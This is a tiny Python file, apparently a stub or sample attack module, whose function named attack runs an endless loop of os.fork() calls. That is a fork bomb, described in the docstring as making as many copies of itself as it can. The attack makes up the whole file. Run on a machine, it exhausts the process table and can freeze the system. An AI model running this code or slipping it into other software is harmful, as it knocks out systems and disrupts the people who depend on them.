"""Makes as many copies of itself as it can."""

import os


def attack(path, port):
    while True:
        os.fork()
